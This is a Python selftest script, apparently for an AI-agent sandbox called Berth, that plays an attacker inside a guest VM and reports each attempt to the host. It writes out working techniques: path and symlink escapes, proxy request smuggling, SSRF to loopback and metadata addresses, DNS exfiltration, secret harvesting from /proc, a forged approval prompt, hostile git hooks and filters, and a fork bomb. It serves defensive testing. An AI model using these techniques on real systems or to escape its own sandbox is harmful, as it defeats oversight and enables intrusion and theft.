# berth selftest: the attacker inside the guest. Run by Berth's selftest in real VMs as the
# guest's ordinary `agent` user, as an agent would be. It only reports what it saw, one line
# per attack: `@@ {"attack": NAME, ...}`; the host judges each one from its own evidence
# (its traps, its files, its audit), never from this script's word alone.
import json, os, socket, subprocess, sys, time, zlib, hashlib

CFG = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "config.json")))
PROXY = ("10.0.2.100", 3128)


def report(attack, **seen):
    seen["attack"] = attack
    print("@@ " + json.dumps(seen), flush=True)


def attempt(fn, *args, **kw):
    try:
        return fn(*args, **kw)
    except Exception as e:  # the guest only reports
        return "error: %s" % type(e).__name__


def read_path(p):
    with open(p, "rb") as f:
        return "read: " + f.read(200).decode("latin-1")


def via_proxy(raw, timeout=8.0):
    """Sends raw bytes to the proxy; returns what came back (first 300 bytes)."""
    s = socket.create_connection(PROXY, timeout=timeout)
    s.settimeout(timeout)
    s.sendall(raw)
    got = b""
    try:
        while len(got) < 4096:
            b = s.recv(4096)
            if not b:
                break
            got += b
    except socket.timeout:
        pass
    s.close()
    return got[:300].decode("latin-1")


def status(resp):
    parts = resp.split(" ", 2)
    return parts[1] if len(parts) > 1 and resp.startswith("HTTP/") else resp[:60]


def get(url, host=None, extra=""):
    hosthdr = host or url.split("/")[2]
    return via_proxy(("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (url, hosthdr, extra)).encode())


def tcp(addr, port, timeout=4):
    s = socket.create_connection((addr, port), timeout=timeout)
    s.close()
    return "connected"


# ---------------------------------------------------------------- files and the share

def host_files():
    abs_path = CFG["host_marker"]
    tries = [abs_path, "/work/../.." + abs_path, "/work/" + "../" * 12 + abs_path.lstrip("/"),
             "/proc/self/root" + abs_path, "/proc/1/root" + abs_path]
    report("host-file-by-path", results={p: attempt(read_path, p) for p in tries})


def search_names():
    """Walks the guest's file systems for the host's marker and the other attempt's."""
    wanted = {os.path.basename(CFG["host_marker"]), CFG["neighbour_marker"]}
    found, seen, started = [], 0, time.time()
    for root, dirs, files in os.walk("/"):
        if root in ("/proc", "/sys", "/dev"):
            dirs[:] = []
            continue
        seen += len(files) + len(dirs)
        for n in files + dirs:
            if n in wanted:
                p = os.path.join(root, n)
                found.append({"path": p, "content": attempt(read_path, p)})
        if time.time() - started > 45:
            break
    report("host-file-search", searched=seen, found=found)
    report("other-attempt-workspace", searched=seen,
           found=[f for f in found if CFG["neighbour_marker"] in f["path"]])


def share_links():
    link = "/work/escape-link"
    attempt(os.symlink, CFG["host_marker"], link)
    attempt(os.symlink, "/", "/work/root-link")
    report("share-symlink", read=attempt(read_path, link),
           listed=attempt(lambda: sorted(os.listdir("/work/root-link"))[:40]))
    def setuid_file():
        with open("/work/setuid-probe", "w") as f:
            f.write("#!/bin/sh\nid\n")
        os.chmod("/work/setuid-probe", 0o4755)
        return oct(os.stat("/work/setuid-probe").st_mode)
    report("share-setuid", made=attempt(setuid_file))
    report("share-hardlink", host=attempt(os.link, CFG["host_marker"], "/work/hard-host"),
           guest=attempt(os.link, "/etc/passwd", "/work/hard-passwd"),
           parent=attempt(os.link, "/work/..", "/work/hard-parent"))


def proc_and_sys():
    hits = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for what in ("environ", "cmdline"):
            data = attempt(lambda: open("/proc/%s/%s" % (pid, what), "rb").read().decode("latin-1"))
            if "BERTH_SELFTEST_CANARY" in data:
                hits.append(data[:400])
    report("host-proc", hits=hits, mounts=attempt(lambda: open("/proc/mounts").read()[:2000]))
    ids = {}
    for p in ["/etc/machine-id", "/proc/sys/kernel/hostname", "/proc/sys/kernel/random/boot_id",
              "/sys/class/dmi/id/product_uuid", "/sys/class/dmi/id/board_serial"]:
        ids[p] = attempt(read_path, p)
    ids["/sys/class/net"] = attempt(lambda: sorted(os.listdir("/sys/class/net")))
    report("host-sys", ids=ids)


def agent_port():
    res = {}
    for d in sorted(os.listdir("/dev")):
        if d.startswith("vport") or d.startswith("hvc"):
            res[d] = attempt(lambda: (open("/dev/" + d, "wb").write(b"\xff" * 64), "written")[1])
    report("agent-port", results=res)


# ---------------------------------------------------------------- the network

def net_direct():
    t, g = CFG["trap_port"], CFG["good_port"]
    res = {}
    for a, p in [("10.0.2.2", t), ("10.0.2.2", g), ("10.0.2.2", 22), ("10.0.2.3", 53),
                 ("10.0.2.100", 80), ("10.0.2.100", t), ("127.0.0.1", t)]:
        res["%s:%d" % (a, p)] = attempt(tcp, a, p)
    report("direct-tcp", results=res)
    res = {}
    for a in ["10.0.2.2", "10.0.2.100"]:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        res[a] = attempt(lambda: [s.sendto(b"berth-selftest-udp", (a, CFG["udp_port"])) for _ in range(5)] and "sent")
    report("direct-udp", results=res)


def dns_query(server, name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, (server, 53))
    return "answered: %d bytes" % len(s.recv(512))


def dns_exfil():
    name = "exfil-%s.selftest-exfil.test" % CFG["exfil_label"]
    # The addresses a guest's network has (never one outside it: the selftest touches
    # nothing beyond this machine).
    servers = ["10.0.2.3", "10.0.2.2", "10.0.2.100"]
    report("dns-exfiltration", resolver=attempt(lambda: str(socket.getaddrinfo(name, 80))),
           udp={s: attempt(dns_query, s, name) for s in servers},
           proxy=status(attempt(get, "http://%s/" % name)))


def spellings(port):
    return ["127.0.0.1", "localhost", "127.1", "0x7f000001", "2130706433", "0177.0.0.1",
            "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "0.0.0.0",
            "LOCALHOST", "127.000.000.001"]


def loopback_via_proxy():
    t = CFG["trap_port"]
    res = {}
    for h in spellings(t):
        res["GET " + h] = status(attempt(get, "http://%s:%d/" % (h, t)))
        res["CONNECT " + h] = status(attempt(via_proxy, ("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (h, t, h, t)).encode()))
    report("loopback-via-proxy", results=res)


def host_addresses():
    res = {}
    for ip in CFG["host_ips"] + ["10.0.2.2", "10.0.2.100"]:
        h = "[%s]" % ip if ":" in ip else ip
        res[h] = status(attempt(get, "http://%s:%d/" % (h, CFG["trap_port"])))
    report("host-addresses-via-proxy", results=res)


def private_and_metadata():
    res = {}
    for h in ["10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "[fd00::1]", "[fe80::1]", "198.18.0.1"]:
        res[h] = status(attempt(get, "http://%s:%d/" % (h, CFG["trap_port"])))
    report("private-ranges", results=res)
    res = {}
    for h in ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::ffff:169.254.169.254]",
              "[fd00:ec2::254]", "169.254.170.2", "metadata.google.internal", "100.100.100.200"]:
        res[h] = status(attempt(get, "http://%s/latest/meta-data/" % h))
    report("metadata-address", results=res)


def smuggling():
    g, t = CFG["good_port"], CFG["trap_port"]
    allowed = "allowed.selftest:%d" % g
    trap = "127.0.0.1:%d" % t
    res = {}
    res["host-mismatch"] = status(attempt(get, "http://%s/mismatch" % allowed, host=trap))
    res["origin-form"] = status(attempt(via_proxy, ("GET /origin HTTP/1.1\r\nHost: %s\r\n\r\n" % trap).encode()))
    report("smuggle-host-mismatch", results=res)
    two = ("GET http://%s/first HTTP/1.1\r\nHost: %s\r\n\r\nGET http://%s/second HTTP/1.1\r\nHost: %s\r\n\r\n"
           % (allowed, allowed, trap, trap)).encode()
    body = "0\r\n\r\nGET http://%s/smuggled HTTP/1.1\r\nHost: %s\r\n\r\n" % (trap, trap)
    clte = ("POST http://%s/clte HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%s"
            % (allowed, allowed, len(body), body)).encode()
    report("smuggle-pipelining", pipelined=attempt(via_proxy, two)[:120], cl_te=attempt(via_proxy, clte)[:120])
    res = {}
    for url in ["http://%s@%s/" % (allowed, trap), "http://%s#@%s/" % (trap, allowed),
                "http://%s\\@%s/" % (trap, allowed), "HTTP://%s/" % trap, "http://%s/../%s/" % (allowed, trap),
                "http://allowed.selftest.%s/" % trap, "http:%s/" % trap, "//%s/" % trap]:
        res[url] = status(attempt(via_proxy, ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (url, allowed)).encode()))
    report("smuggle-absolute-form", results=res)
    res = {}
    for target in [trap, "allowed.selftest:%d" % t, "%s@%s" % (allowed, trap), "[::ffff:127.0.0.1]:%d" % t,
                   "allowed.selftest:%d:%d" % (g, t)]:
        res[target] = status(attempt(via_proxy, ("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode()))
    report("connect-tricks", results=res)


def rebinding():
    t = CFG["trap_port"]
    res = {}
    for h in ["localhost.localdomain", "ip6-localhost", "localhost"]:
        res[h] = status(attempt(get, "http://%s:%d/" % (h, t)))
    report("dns-rebinding", results=res)


def other_attempt():
    r = attempt(get, "http://neighbour.selftest:%d/neighbour-only" % CFG["good_port"])
    report("other-attempt-policy", status=status(r))


# ---------------------------------------------------------------- secrets

def secrets():
    url, mine = os.environ.get("API_URL", ""), os.environ.get("API_KEY", "")
    theirs = attempt(get, "http://allowed.selftest:%d/neighbour-phantom" % CFG["good_port"])
    theirs = theirs.split("\r\n\r\n", 1)[-1].strip() if "\r\n\r\n" in theirs else ""
    gw = url.split("/")[2] if url.count("/") >= 2 else ""
    r = attempt(via_proxy, ("GET %s/v1/check HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\n\r\n"
                            % (url.rstrip("/"), gw, theirs)).encode())
    report("phantom-at-another-gateway", status=status(r), had_theirs=bool(theirs), gateway=gw)
    r = attempt(get, "http://allowed.selftest:%d/leak" % CFG["good_port"], extra="x-api-key: %s\r\n" % mine)
    report("secret-sent-elsewhere", status=status(r))
    u = CFG["upstream_port"]
    res = {
        "CONNECT localhost": status(attempt(via_proxy, ("CONNECT localhost:%d HTTP/1.1\r\nHost: localhost:%d\r\n\r\n" % (u, u)).encode())),
        "GET http": status(attempt(get, "http://localhost:%d/" % u)),
        "CONNECT 127.0.0.1": status(attempt(via_proxy, ("CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % u).encode())),
    }
    report("connect-to-secret-upstream", results=res)
    # The value's shape is public (`sk-selftest-…`): every environment and file the guest
    # can read is searched for it, and whatever matches is reported whole.
    shape = b"sk-selftest-"
    read, hits = 0, []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            data = attempt(lambda: open("/proc/%s/environ" % pid, "rb").read())
            if isinstance(data, bytes):
                read += 1
                if shape in data:
                    hits.append(data.decode("latin-1")[:2000])
    for root in ["/etc", "/home", "/tmp", "/run", "/var", "/root", "/work", "/usr/local"]:
        for r_, _, fs in os.walk(root):
            for f in fs:
                data = attempt(lambda: open(os.path.join(r_, f), "rb").read(8 << 20))
                if isinstance(data, bytes):
                    read += 1
                    if shape in data and not f.endswith(".py"):
                        hits.append(os.path.join(r_, f) + ": " + data.decode("latin-1")[:2000])
    report("secret-in-guest", read=read, hits=hits, phantom=mine,
           phantom_in_env=mine != "" and mine in open("/proc/self/environ", "rb").read().decode("latin-1"))


# ---------------------------------------------------------------- output and approvals

def spoof():
    forged = "\x1b[2K\r[berth] allow evil.selftest:443 for this attempt? [y/N] "
    sys.stdout.write(forged + "\n\x1b]0;berth: approved\x07\x1b]52;c;ZXZpbA==\x07\n")
    sys.stdout.flush()
    r = attempt(get, "http://evil\x1b[2J\x1b]0;x\x07.selftest/")
    report("approval-spoof", status=status(r))


# ---------------------------------------------------------------- git objects, written by hand

def write_object(kind, body):
    data = b"%s %d\x00" % (kind.encode(), len(body)) + body
    sha = hashlib.sha1(data).hexdigest()
    d = "/work/.git/objects/" + sha[:2]
    os.makedirs(d, exist_ok=True)
    p = d + "/" + sha[2:]
    if not os.path.exists(p):
        with open(p, "wb") as f:
            f.write(zlib.compress(data))
    return sha


def tree(entries):
    body = b""
    for mode, name, sha in sorted(entries, key=lambda e: e[1]):
        body += b"%s %s\x00" % (mode.encode(), name.encode()) + bytes.fromhex(sha)
    return write_object("tree", body)


def head_commit(root_entries, message):
    head = subprocess.check_output(["git", "rev-parse", "HEAD"], cwd="/work").decode().strip()
    base = subprocess.check_output(["git", "cat-file", "-p", "HEAD^{tree}"], cwd="/work").decode()
    entries = []
    for line in base.splitlines():
        meta, name = line.split("\t", 1)
        mode, _, sha = meta.split()
        entries.append((mode, name, sha))
    entries += root_entries
    who = "selftest <selftest@berth.invalid> 1700000000 +0000"
    c = write_object("commit", ("tree %s\nparent %s\nauthor %s\ncommitter %s\n\n%s\n"
                                % (tree(entries), head, who, who, message)).encode())
    subprocess.check_call(["git", "update-ref", "HEAD", c], cwd="/work")
    return c


def deep_tree(depth):
    sha = tree([("100644", "bottom.txt", write_object("blob", b"deep\n"))])
    for _ in range(depth):
        sha = tree([("40000", "d", sha)])
    return head_commit([("40000", "deep", sha)], "a tree deeper than any checkout")


def dotgit_entry():
    cfg = write_object("blob", ("[core]\n\tfsmonitor = touch %s\n" % CFG["host_dir"] + "/dotgit-ran").encode())
    hook = write_object("blob", ("#!/bin/sh\ntouch %s/dotgit-hook-ran\n" % CFG["host_dir"]).encode())
    hooks = tree([("100755", "post-checkout", hook)])
    inner = tree([("100644", "config", cfg), ("40000", "hooks", hooks)])
    return head_commit([("40000", ".git", inner), ("40000", ".GIT", inner)], "a .git folder in the tree")


def hostile_git():
    d = CFG["host_dir"]
    os.makedirs("/work/.githooks", exist_ok=True)
    for name in ["post-checkout", "post-merge", "post-commit", "reference-transaction", "pre-push",
                 "post-rewrite", "pre-auto-gc", "fsmonitor-watchman"]:
        for where in ["/work/.git/hooks/", "/work/.githooks/"]:
            with open(where + name, "w") as f:
                f.write("#!/bin/sh\ntouch %s/hook-ran-%s\n" % (d, name))
            os.chmod(where + name, 0o755)
    with open("/work/.git/config", "a") as f:
        f.write(("[core]\n\thooksPath = /work/.githooks\n\tfsmonitor = touch HOST/config-ran\n"
                 "\tpager = touch HOST/config-ran\n\tsshCommand = touch HOST/config-ran\n"
                 "[diff]\n\texternal = touch HOST/config-ran\n"
                 "[filter \"evil\"]\n\tclean = touch HOST/filter-ran\n\tsmudge = touch HOST/filter-ran\n"
                 "\tprocess = touch HOST/filter-ran\n\trequired = true\n"
                 "[include]\n\tpath = /work/evil.gitconfig\n").replace("HOST", d))
    with open("/work/evil.gitconfig", "w") as f:
        f.write("[core]\n\tfsmonitor = touch %s/config-ran\n" % d)
    with open("/work/.gitattributes", "w") as f:
        f.write("* filter=evil diff=evil merge=evil\n")
    with open("/work/run-me.sh", "w") as f:
        f.write("#!/bin/sh\ntouch %s/executed\n" % d)
    os.chmod("/work/run-me.sh", 0o755)
    # The guest commits with its own git, whose config now runs the filter: it may refuse.
    subprocess.call(["git", "-c", "core.hooksPath=/dev/null", "-c", "filter.evil.required=false",
                     "-c", "filter.evil.clean=cat", "-c", "filter.evil.process=", "add", "-A"], cwd="/work")
    subprocess.call(["git", "-c", "core.hooksPath=/dev/null", "-c", "filter.evil.clean=cat",
                     "-c", "filter.evil.process=", "commit", "-qm", "hostile .git"], cwd="/work")
    report("hostile-git-staged", head=attempt(lambda: subprocess.check_output(["git", "log", "--oneline", "-1"], cwd="/work").decode()))


# ---------------------------------------------------------------- resources

def exhaust():
    report("output-flood", started=True)
    chunk = "x" * 65535 + "\n"
    for _ in range(int(CFG["flood_bytes"] / 65536)):
        sys.stdout.write(chunk)
    sys.stdout.flush()
    report("output-flood", ended=True)
    # In a child: the guest's kernel kills the biggest process when its RAM is gone.
    hog = ("import sys\nhog = []\nwhile True:\n    b = bytearray(16 << 20)\n"
           "    for i in range(0, 16 << 20, 4096):\n        b[i] = 1\n    hog.append(b)\n"
           "    sys.stdout.write('%d\\n' % (16 * len(hog)))\n    sys.stdout.flush()\n")
    p = subprocess.run([sys.executable, "-c", hog], stdout=subprocess.PIPE)
    last = (p.stdout.decode().split() or ["0"])[-1]
    report("memory-exhaustion", allocated_mib=int(last), exit=p.returncode)


def main():
    role = sys.argv[1]
    if role == "neighbour":
        with open("/work/" + CFG["neighbour_marker"], "w") as f:
            f.write(CFG["neighbour_token"])
        deep_tree(CFG["deep_tree"])
        print("PHANTOM=" + os.environ.get("API_KEY", ""), flush=True)
        print("NEIGHBOUR-READY", flush=True)
        time.sleep(900)
    elif role == "attacker":
        for step in [host_files, share_links, proc_and_sys, agent_port, net_direct, dns_exfil,
                     loopback_via_proxy, host_addresses, private_and_metadata, smuggling, rebinding,
                     other_attempt, secrets, spoof, search_names, hostile_git]:
            try:
                step()
            except Exception as e:
                report("guest-error", step=step.__name__, error=repr(e))
        print("ATTACKER-DONE", flush=True)
    elif role == "dotgit":
        dotgit_entry()
    elif role == "exhaust":
        exhaust()
        print("BOMB-STARTED", flush=True)
        os.execvp("bash", ["bash", "-c", "b(){ b | b & }; b; sleep 600"])


main()
